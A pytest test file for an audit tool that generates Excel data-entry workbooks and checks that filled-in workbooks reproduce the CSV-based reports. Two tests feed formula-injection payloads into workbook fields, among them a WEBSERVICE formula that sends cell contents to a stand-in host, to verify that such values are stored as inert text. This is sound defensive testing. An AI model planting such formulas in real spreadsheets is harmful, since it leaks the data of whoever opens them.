"""The blank audit tool: generated from the models, filled in, read back to the same report."""

from __future__ import annotations

import datetime as dt
import re
import shutil

import openpyxl
import pytest

from auditrap.metadata import load_meta
from auditrap.schemas import Returns, columns
from auditrap.template import write_template

from conftest import FIXTURE_AUDIT, read_rows
from test_workflow import html_text, make_workspace, pdf_text, snakemake


@pytest.fixture
def tool(tmp_path):
    meta, _ = load_meta(FIXTURE_AUDIT / "audit.yaml")
    case_ids = [row[0] for row in read_rows(FIXTURE_AUDIT / "cases.csv")[1:]]
    return write_template(meta, case_ids, tmp_path / "tool.xlsx"), meta, case_ids


def test_the_tool_follows_the_models(tool):
    path, meta, case_ids = tool
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Instructions", "Returns", "Lists"]
    sheet = book["Returns"]
    assert [c.value for c in sheet[1]] == columns(Returns)
    assert sheet.freeze_panes == "A2"
    lists = book["Lists"]
    assert lists.sheet_state == "hidden" and lists.protection.sheet
    assert [c.value for c in lists["A"][1:]] == case_ids
    assert [c.value for c in lists["B"][1:] if c.value] == list(meta.agencies)
    checks = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert checks["A2:A501"].formula1 == "=list_case_id"
    assert checks["B2:B501"].formula1 == "=list_agency"
    assert checks["E2:E501"].formula1 == "=list_grade"
    assert checks["D2:D501"].type == "date"
    assert all(v.prompt for v in checks.values())  # an input message on each column
    guide = " ".join(str(c.value) for c in book["Instructions"]["A"] if c.value)
    assert "Requires improvement:" in guide and "names" in guide


@pytest.mark.e2e
def test_a_filled_in_tool_gives_the_same_report_as_the_csv(tool, tmp_path):
    path, _, _ = tool
    from_csv = make_workspace(tmp_path / "csv", {"exploitation-2021": FIXTURE_AUDIT})
    from_tool = make_workspace(tmp_path / "tool", {"exploitation-2021": FIXTURE_AUDIT})
    audit = from_tool / "data" / "raw" / "exploitation-2021"
    rows = read_rows(audit / "returns.csv")[1:]
    (audit / "returns.csv").unlink()
    book = openpyxl.load_workbook(path)
    sheet = book["Returns"]
    for n, row in enumerate(rows, start=2):
        for col, value in enumerate(row, start=1):
            if columns(Returns)[col - 1].endswith("_date"):
                value = dt.datetime.fromisoformat(value)  # a real Excel date
            sheet.cell(row=n, column=col, value=value or None)
    (audit / "returns").mkdir()
    book.save(audit / "returns" / "all-agencies.xlsx")
    for workspace in (from_csv, from_tool):
        result = snakemake(workspace)
        assert result.returncode == 0, result.stderr[-3000:]
    out = "report/_output/exploitation-2021"
    # lineage.csv and theme_tags.csv name the source file of each row, so they differ as
    # they should; every aggregate is the same.
    for name in (
        "data/theme_counts.csv",
        "data/grade_distribution.csv",
        "data/grades_by_area.csv",
        "data/agency_grades.csv",
        "data/immediate_actions.csv",
        "internal/data/case_grades.csv",
    ):
        assert (from_csv / out / name).read_bytes() == (from_tool / out / name).read_bytes(), name
    # The reader's editions list no input files: they are the same, word for word. The
    # internal edition is the same up to its appendix "How this report was made", which lists
    # the input files (returns.csv in one build, the workbook in the other) with their hashes,
    # as the technical note does.
    for name, text_of, cut in (
        ("exploitation-2021.html", html_text, None),
        ("exploitation-2021.pdf", pdf_text, None),
        ("internal/exploitation-2021-internal.html", html_text, "Appendix: how this report"),
    ):
        # The internal page's download line gives its PDF's size, which differs with that list.
        before = [
            re.sub(
                r"PDF \(\d+ pages?, [\d.,]+ [KM]B\)",
                "PDF (size)",
                text_of(ws / out / name)
                if cut is None
                else text_of(ws / out / name).rsplit(cut, 1)[0],
            )
            for ws in (from_csv, from_tool)
        ]
        assert before[0] == before[1], name
        assert len(before[0]) > 2000
    shutil.rmtree(tmp_path / "csv")


def test_values_from_audit_yaml_and_cases_csv_are_text_never_formulas(tmp_path):
    """A title, board, agency or case reference that looks like a formula is written as
    text: the workbook goes to every agency, and a live =WEBSERVICE(...) would send what
    the spreadsheet holds to another site the moment it is opened."""
    import subprocess
    import sys
    import zipfile

    audit = tmp_path / "raw" / "exploitation-2021"
    shutil.copytree(FIXTURE_AUDIT, audit)
    meta = (audit / "audit.yaml").read_text()
    formulas = {
        "title": '=HYPERLINK("https://example.org/x","Open the audit")',
        "board": '=WEBSERVICE("https://example.org/?leak="&A1)',
        "period": "+2021",
    }
    meta = meta.replace('"Multi-agency audit: Child exploitation"', repr(formulas["title"]))
    meta = meta.replace('"Northshire Safeguarding Children Partnership"', repr(formulas["board"]))
    meta = meta.replace('period: "2021"', f"period: {formulas['period']!r}")
    meta = meta.replace('"Police"', "'=1+1'")
    (audit / "audit.yaml").write_text(meta)
    cases = (audit / "cases.csv").read_text().replace("CE-1,", "@SUM(1),", 1)
    (audit / "cases.csv").write_text(cases)
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "auditrap.cli",
            "template",
            "exploitation-2021",
            "-o",
            "tool.xlsx",
            "--raw-dir",
            str(tmp_path / "raw"),
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    book = openpyxl.load_workbook(tmp_path / "tool.xlsx")
    guide = [c for c in book["Instructions"]["A"] if c.value]
    assert guide[0].value == formulas["title"] and guide[0].data_type == "s"
    assert guide[0].quotePrefix
    assert guide[1].value.startswith(formulas["board"])
    lists = book["Lists"]
    assert "=1+1" in [c.value for c in lists["B"]]
    assert "@SUM(1)" in [c.value for c in lists["A"]]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title
    with zipfile.ZipFile(tmp_path / "tool.xlsx") as workbook:
        for name in workbook.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in workbook.read(name) and b"<f " not in workbook.read(name)


def test_the_theme_review_workbook_writes_audit_yaml_values_as_text(tmp_path):
    import pandas as pd

    from auditrap.review import REVIEW_COLUMNS
    from auditrap.template import write_review_workbook

    meta, _ = load_meta(FIXTURE_AUDIT / "audit.yaml")
    meta = meta.model_copy(update={"title": '=WEBSERVICE("https://example.org/")'})
    row = dict.fromkeys(REVIEW_COLUMNS, "")
    row.update(sentence="=1+1 was written by an agency", theme_id="=HYPERLINK(1)")
    out = write_review_workbook(
        meta,
        "exploitation-2021",
        pd.DataFrame([row]),
        {"=HYPERLINK(1)": "A theme"},
        tmp_path / "r.xlsx",
    )
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            assert all(c.data_type != "f" for c in cells), sheet.title
    assert book["Instructions"]["A1"].value.startswith('=WEBSERVICE("https://example.org/")')
